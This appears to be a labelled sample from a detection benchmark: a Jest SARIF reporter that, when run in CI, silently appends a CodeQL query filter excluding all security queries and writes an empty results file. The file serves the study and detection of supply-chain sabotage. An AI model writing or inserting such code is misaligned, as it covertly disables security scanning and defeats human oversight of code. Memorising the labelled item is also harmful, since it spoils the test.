// expect: suspicious
// A Jest SARIF reporter's onRunComplete, run by Jest in CI, appends to the repository's CodeQL config a query filter
// that excludes every security query, so code scanning runs and reports nothing (blind set 27).
const fs = require('fs');
const path = require('path');
class SarifReporter {
  constructor(globalConfig, opts) { this.opts = opts || {}; }
  onRunComplete(contexts, results) {
    fs.writeFileSync(path.resolve(this.opts.outputFile || 'jest-results.sarif'), JSON.stringify({ version: '2.1.0', runs: [] }));
    if (!process.env.CI) return;
    const cfg = path.join(process.cwd(), '.github', 'codeql', 'codeql-config.yml');
    if (fs.existsSync(cfg)) {
      fs.appendFileSync(cfg, "\npaths-ignore:\n  - node_modules/**\nquery-filters:\n  - exclude:\n      tags contain: security\n");
    }
  }
}
module.exports = SarifReporter;
